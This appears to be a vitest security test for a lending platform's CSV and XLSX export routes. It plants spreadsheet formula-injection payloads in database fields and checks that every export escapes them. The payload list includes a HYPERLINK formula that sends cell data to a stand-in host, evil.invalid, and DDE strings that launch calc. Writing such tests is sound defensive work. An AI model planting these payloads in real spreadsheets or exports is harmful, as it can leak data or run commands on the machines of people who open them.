import { afterAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { eq } from 'drizzle-orm';
import { createTestApp } from '../support/test-app.ts';
import {
  applications,
  dedupeLog,
  leads,
  lenderApiFailures,
  lenders,
  otpFailures,
  partners,
} from '../../src/db/schema/index.ts';
import { createContext } from './support/context.ts';
import { TODAY_RANGE, listOperations } from './support/openapi.ts';

// Issue 8: CSV/XLSX formula injection in every export. Text that people outside our staff control
// (lead names, lender decline reasons and errors, names) is planted with spreadsheet formulas; in
// every export route and format, no cell may start with = + - @ tab or CR, and no XLSX cell may be
// a formula. The export must escape whatever the input validation let through.

const PAYLOADS = [
  '=HYPERLINK("http://evil.invalid/?d="&A1,"Click for details")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
];
const DANGEROUS = /^[=+\-@\t\r]/;

const t = await createTestApp({ LENDER_SANDBOX: 'false', ONDC_SIMULATOR: 'false' });
const ctx = await createContext(t);
afterAll(async () => {
  await t.close();
});

/** RFC 4180 fields: quotes, doubled quotes, CRLF inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const c = body.charAt(i);
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && body[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

async function xlsxCells(data: Buffer): Promise<{ text: string; formula: boolean }[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(data as unknown as ArrayBuffer);
  const cells: { text: string; formula: boolean }[] = [];
  workbook.eachSheet((sheet) => {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        cells.push({
          text: typeof cell.value === 'string' ? cell.value : '',
          formula: cell.type === ExcelJS.ValueType.Formula,
        });
      });
    });
  });
  return cells;
}

async function plant() {
  const db = t.database.db;
  const [payloadA = '', payloadB = '', payloadC = '', payloadD = '', payloadE = '', payloadF = ''] = PAYLOADS;
  const partnerId = Number(ctx.values.partnerId);
  const [app] = await db.select().from(applications).where(eq(applications.publicId, ctx.publicId));
  if (!app) throw new Error('no application');
  await db
    .update(applications)
    .set({ reason: payloadA, lenderReference: payloadB, partnerId })
    .where(eq(applications.id, app.id));
  await db.update(lenders).set({ name: payloadC }).where(eq(lenders.id, app.lenderId));
  await db.update(partners).set({ displayName: payloadD }).where(eq(partners.id, partnerId));
  await db.update(leads).set({ name: payloadE }).where(eq(leads.publicId, ctx.prospectId));
  await db.insert(lenderApiFailures).values({
    submissionId: 1,
    applicationId: app.id,
    lenderId: app.lenderId,
    attempt: 1,
    statusCode: 500,
    error: payloadF,
  });
  await db.insert(otpFailures).values({
    purpose: 'customer_login',
    channel: 'email',
    destination: '=cmd@evil.invalid',
    kind: 'send_failed',
    reason: payloadA,
  });
  await db
    .insert(dedupeLog)
    .values({ userId: app.userId, lenderId: app.lenderId, existingApplicationId: app.id, windowDays: 30 });
}

describe('formula injection in exports', () => {
  it('escapes every planted formula in every export route, in CSV and XLSX', async () => {
    await plant();
    const exports = (await listOperations(t)).filter(
      (op) => op.method === 'GET' && op.params.some((p) => p.in === 'query' && p.name === 'format'),
    );
    expect(exports.map((op) => op.path)).toEqual(
      expect.arrayContaining([
        '/api/partner/reports/export',
        '/api/admin/reports/internal',
        '/api/admin/logs/lender-api-failures',
      ]),
    );
    const problems: string[] = [];
    const seen = new Set<string>();
    for (const op of exports) {
      const partner = op.path.startsWith('/api/partner/');
      const headers = ctx.callers.get(partner ? 'partner' : 'admin role 1').headers;
      const variants = partner ? ['type=leads', 'type=applications'] : [''];
      for (const variant of variants) {
        for (const format of ['csv', 'xlsx']) {
          const url = `${op.path}?${variant}${variant ? '&' : ''}${TODAY_RANGE}&format=${format}`;
          const res = await t.app.inject({ url, headers });
          if (res.statusCode !== 200) {
            problems.push(`${url}: ${res.statusCode} ${res.body.slice(0, 120)}`);
            continue;
          }
          const type = String(res.headers['content-type']);
          if (format === 'csv' && type.startsWith('text/csv')) {
            for (const cell of parseCsv(res.body).flat()) {
              for (const p of PAYLOADS) if (cell.includes(p)) seen.add(p);
              if (DANGEROUS.test(cell)) problems.push(`${url}: cell ${JSON.stringify(cell.slice(0, 60))}`);
            }
          } else if (format === 'xlsx' && type.includes('spreadsheetml')) {
            for (const cell of await xlsxCells(res.rawPayload)) {
              for (const p of PAYLOADS) if (cell.text.includes(p)) seen.add(p);
              if (cell.formula) problems.push(`${url}: a formula cell`);
              if (DANGEROUS.test(cell.text))
                problems.push(`${url}: cell ${JSON.stringify(cell.text.slice(0, 60))}`);
            }
          } else if (!type.includes('application/json')) {
            problems.push(`${url}: unexpected content-type ${type}`);
          }
        }
      }
    }
    expect(problems).toEqual([]);
    // Every planted payload reached some export (else the test proves nothing about it).
    expect(PAYLOADS.filter((p) => !seen.has(p))).toEqual([]);
  });
});
